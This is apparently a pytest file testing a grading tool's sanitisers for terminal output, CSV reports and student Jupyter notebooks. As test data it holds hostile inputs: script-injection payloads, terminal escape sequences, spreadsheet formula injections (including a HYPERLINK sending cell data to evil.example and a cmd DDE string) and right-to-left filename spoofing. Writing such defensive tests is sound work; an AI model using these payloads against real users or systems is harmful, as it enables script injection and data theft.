"""Untrusted text: terminal_safe, csv_safe and the NeutralizeStudentContent preprocessor."""

from __future__ import annotations

import base64
import copy
import csv
import io
import re

import nbformat
import pytest
from nbconvert.filters.markdown_mistune import markdown2html_mistune
from nbgrader.utils import compute_checksum

from gradekit.authoring import notebooks as authoring
from gradekit.course.safe_text import (
    ZWSP,
    NeutralizeStudentContent,
    csv_safe,
    inert_markdown,
    neutralize_notebook,
    terminal_safe,
)

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(17)
JPEG = b"\xff\xd8\xff\xe0" + bytes(16)
SVG_SCRIPT = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'


# ---------------------------------------------------------------- terminal_safe / csv_safe


@pytest.mark.parametrize(("text", "expected"), [
    ("before\x1b[2Jafter", "beforeafter"),  # clear screen
    ("x\x1b]0;owned title\x07y", "xy"),  # OSC: set window title, BEL-terminated
    ("x\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\y", "xlinky"),  # OSC 8 hyperlink, ST-terminated
    ("red\x1b[31;1mtext\x1b[0m", "redtext"),
    ("a\x9b2Jb", "ab"),  # 8-bit CSI
    ("graded\rFAILED", "graded FAILED"),  # \r would overwrite the line
    ("line\nnext\ttab", "line next tab"),
    ("bell\x07 nul\x00 del\x7f c1\x85", "bell nul del c1 "),
    ("alice\u202etxt.exe", "alicetxt.exe"),  # right-to-left override
    ("a\u2066b\u2069c\u202ad\u202ce", "abcde"),  # isolates and embeddings
    ("plain text, ünïcödé", "plain text, ünïcödé"),
])
def test_terminal_safe_strips_controls(text, expected):
    assert terminal_safe(text) == expected


def test_terminal_safe_output_has_no_control_characters_at_all():
    hostile = "".join(chr(i) for i in range(0x00, 0xA0)) + "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
    cleaned = terminal_safe(hostile * 3, limit=10_000)
    assert not re.search(r"[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", cleaned)


def test_terminal_safe_truncates():
    assert len(terminal_safe("x" * 1000)) == 300
    assert terminal_safe("x" * 1000, limit=20).endswith("…")
    assert terminal_safe("short", limit=20) == "short"


@pytest.mark.parametrize(("text", "expected"), [
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("+1+1", "'+1+1"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1+1", "' =1+1"),
    ("\r=1+1", "' =1+1"),
    ("  =1+1", "'  =1+1"),
    ("\x1b[2J=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),  # escape sequences hide nothing
    ("\uff1d1+1", "'\uff1d1+1"),  # fullwidth equals sign
    ("alice", "alice"),
    ("a=b", "a=b"),
])
def test_csv_safe_neutralises_formulas(text, expected):
    assert csv_safe(text) == expected


def test_csv_safe_round_trips_through_the_csv_module():
    buffer = io.StringIO()
    csv.writer(buffer).writerow([csv_safe('=HYPERLINK("x","y")'), csv_safe("line\nbreak")])
    (row,) = csv.reader(io.StringIO(buffer.getvalue()))
    assert row == ['\'=HYPERLINK("x","y")', "line break"]


# ---------------------------------------------------------------- NeutralizeStudentContent


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def _display(data: dict, metadata: dict | None = None) -> nbformat.NotebookNode:
    return nbformat.v4.new_output("display_data", data=data, metadata=metadata or {})


def hostile_notebook() -> nbformat.NotebookNode:
    code = authoring.answer("double", "def double(x):\n    return 2 * x")
    code.outputs = [
        _display({"text/html": "<script>alert(1)</script>", "text/plain": "<IPython.core.display.HTML object>"}),
        _display({"text/html": "<img src=x onerror=alert(1)>"}),
        _display({"image/svg+xml": SVG_SCRIPT}),
        _display({"application/javascript": "alert(1)"}),
        _display({"text/markdown": "<img src=x onerror=alert(1)>"}),
        _display({"text/latex": r"$\href{javascript:alert(1)}{x}$"}),
        _display({"application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "text/plain": "widget"}),
        _display({"image/png": _b64(PNG)}, {"image/png": {"width": 40, "height": '1 onerror=alert(1)'}}),
        _display({"image/png": _b64(b'"><script>alert(1)</script>')}),  # not a PNG
        _display({"image/png": '"><script>alert(1)</script>'}),  # not even base64
        _display({"image/jpeg": _b64(JPEG)}),
        nbformat.v4.new_output("stream", name="stdout", text="<b>printed</b>\n"),
        nbformat.v4.new_output("execute_result", data={"text/html": "<script>alert(1)</script>", "text/plain": "3"},
                               execution_count=1),
    ]
    tests = authoring.tests("test_double", 1, "assert double(1) == 2")
    tests.outputs = [_display({"text/html": "<script>alert('from a test cell')</script>"})]
    answer = authoring.written("explain", 2, "model answer")
    answer.source = ("My answer: <script>alert(1)</script> and <img src=x onerror=alert(1)>, "
                     "`x < y` in code, [link](javascript:alert(1)), $\\href{javascript:alert(1)}{x}$.")
    answer.attachments = {"evil.svg": {"image/svg+xml": SVG_SCRIPT}}
    added = authoring.markdown("<iframe src=javascript:alert(1)></iframe> a cell the student added")
    raw = nbformat.v4.new_raw_cell("<script>alert(1)</script>", metadata={"raw_mimetype": "text/html"})
    nb = nbformat.v4.new_notebook(cells=[code, tests, answer, added, raw])
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}}}
    return nb


def rendered_html(nb: nbformat.NotebookNode) -> str:
    """What the page would contain: outputs' raw HTML types, and markdown rendered as nbconvert does."""
    parts = []
    for cell in nb.cells:
        if cell.cell_type == "markdown":
            parts.append(markdown2html_mistune(cell.source))
        for output in cell.get("outputs", []):
            for mime, value in output.get("data", {}).items():
                if mime != "text/plain":
                    parts.append(f"{mime}: {value}")
    return "\n".join(parts)


def test_scripts_are_removed_from_outputs():
    nb = neutralize_notebook(hostile_notebook())
    code, tests = nb.cells[0], nb.cells[1]
    mimes = [set(output.get("data", {})) for output in code.outputs + tests.outputs]
    assert set().union(*mimes) <= {"text/plain", "image/png", "image/jpeg"}
    texts = [output.data.get("text/plain") for output in code.outputs if "data" in output]
    assert texts[0] == "<IPython.core.display.HTML object>"  # the text/plain that was there
    assert texts[1] == "[html output removed by the grader]"
    assert texts[2] == "[svg output removed by the grader]"
    assert texts[3] == "[javascript output removed by the grader]"
    assert texts[6] == "widget"
    assert tests.outputs[0].data == {"text/plain": "[html output removed by the grader]"}
    assert code.outputs[11].text == "<b>printed</b>\n"  # streams are escaped by nbconvert: kept as they are
    assert "widgets" not in nb.metadata


def test_real_images_kept_fake_ones_dropped():
    nb = neutralize_notebook(hostile_notebook())
    outputs = nb.cells[0].outputs
    assert outputs[7].data["image/png"] == _b64(PNG)
    assert outputs[7].metadata == {"image/png": {"width": 40}}  # a non-numeric height is dropped
    assert "image/png" not in outputs[8].data and "image/png" not in outputs[9].data
    assert outputs[8].data["text/plain"] == "[png output removed by the grader]"
    assert outputs[10].data["image/jpeg"] == _b64(JPEG)


def test_written_answers_and_added_cells_become_inert_but_readable():
    nb = neutralize_notebook(hostile_notebook())
    page = rendered_html(nb)
    assert not re.search(r"<(script|img|iframe|svg)", page, re.IGNORECASE)
    assert "href=" not in page
    answer_html = markdown2html_mistune(nb.cells[2].source)
    assert "<a " not in answer_html
    # it reads as written once the invisible zero-width spaces are ignored
    assert nb.cells[2].source.replace(ZWSP, "") == hostile_notebook().cells[2].source
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in answer_html.replace(ZWSP, "")
    assert "<code>x &lt; y</code>" in answer_html.replace(ZWSP, "")
    assert "attachments" not in nb.cells[2]
    assert "<iframe" not in markdown2html_mistune(nb.cells[3].source)
    assert "raw_mimetype" not in nb.cells[4].metadata


def test_unprotected_notebook_would_have_run_scripts():
    """The same checks fail without the preprocessor: they test something."""
    page = rendered_html(hostile_notebook())
    assert "<script>" in page and "<img src=x onerror" in page and 'href="javascript:' in page


def test_blank_answer_is_unchanged_so_nbgrader_still_sees_no_response():
    blank = authoring.written("explain", 2, "model answer")
    blank.source = "YOUR ANSWER HERE"
    blank.metadata["nbgrader"]["checksum"] = compute_checksum(blank)
    nb = nbformat.v4.new_notebook(cells=[copy.deepcopy(blank)])
    neutralize_notebook(nb)
    assert nb.cells[0] == blank
    assert compute_checksum(nb.cells[0]) == blank.metadata["nbgrader"]["checksum"]


def test_locked_instructor_markdown_is_kept_but_forged_lock_is_not():
    instructor = authoring.markdown("Read <b>carefully</b>")
    instructor.metadata["nbgrader"] = {"grade": False, "grade_id": "intro", "locked": True, "solution": False,
                                       "schema_version": 3, "task": False}
    instructor.metadata["nbgrader"]["checksum"] = compute_checksum(instructor)
    forged = copy.deepcopy(instructor)
    forged.id, forged.source = "forged", "<script>alert(1)</script>"  # checksum no longer matches
    nb = neutralize_notebook(nbformat.v4.new_notebook(cells=[copy.deepcopy(instructor), forged]))
    assert nb.cells[0].source == "Read <b>carefully</b>"
    assert nb.cells[1].source == f"<{ZWSP}script>alert(1)<{ZWSP}/script>"


def test_idempotent():
    once = neutralize_notebook(hostile_notebook())
    twice = neutralize_notebook(copy.deepcopy(once))
    assert twice == once
    text = "<a> [x](y) [r]: z \\href{a}"
    assert inert_markdown(inert_markdown(text)) == inert_markdown(text)


def test_is_an_nbgrader_preprocessor():
    from nbgrader.preprocessors import NbGraderPreprocessor

    preprocessor = NeutralizeStudentContent()
    assert isinstance(preprocessor, NbGraderPreprocessor) and preprocessor.enabled
    nb, resources = preprocessor(hostile_notebook(), {"nbgrader": {}})
    assert "<script>" not in rendered_html(nb)


# ---------------------------------------------------------------- where gradekit prints and writes


def test_collect_report_neither_prints_escapes_nor_writes_formulas(tmp_path, capsys):
    from gradekit.intake.collect import Found, plan, print_report, write_report

    hostile = "=HYPERLINK(\"evil\",\"x\")\x1b[2J\x1b]0;pwned\x07\rok\u202e.ipynb"
    files = [Found(f"alice/{hostile}", b"{}", None), Found(f"\u202e\x07!!/{hostile}", b"{}", None),
             Found(hostile, b"{}", None)]
    plan(files, "lab1", "lab1_notebook")
    files[0].action = "placed"
    skipped = [("=cmd|' /C calc'!A0\x1b[2J", "unsafe path\x1b]0;x\x07")]
    report = tmp_path / "collect.csv"
    write_report(files, skipped, report)
    print_report(files, skipped, report)
    printed = capsys.readouterr().out
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", printed)
    with report.open(newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not any(cell.lstrip(" ").startswith(("=", "+", "-", "@")) for cell in cells), cells
    assert not any(re.search(r"[\x00-\x1f\x7f-\x9f\u202a-\u202e]", cell) for cell in cells)
    assert files[1].student is None  # a folder name without letters or digits is no student id


def test_grades_csv_quotes_student_ids(tmp_path):
    from gradekit.delivery.report import LabSummary, write_grades_csv

    path = tmp_path / "grades.csv"
    write_grades_csv(path, ['=HYPERLINK("http://evil","x")'], {"lab1": LabSummary("lab1")})
    rows = list(csv.reader(path.open(newline="")))
    assert rows[1][0] == '\'=HYPERLINK("http://evil","x")'


def test_feedback_messages_lose_every_escape_sequence():
    from gradekit.delivery.feedback import clean

    assert clean("Error: \x1b]0;pwned\x07bad\x1b[31m red\x1b[0m\r\nnext\u202e") == "Error: bad red\nnext"


@pytest.mark.parametrize(("student", "safe"), [
    ("alice", True), ("bob_smith.2", True), ("a@uni.edu", True), ("<img src=x onerror=alert(1)>", False),
    ("=HYPERLINK(1)", False), ("-rf", False), ("x\x1b[2J", False), ("", False), ("a" * 200, False),
])
def test_safe_student_ids(student, safe):
    from gradekit.course.safe_text import is_safe_student_id

    assert is_safe_student_id(student) is safe
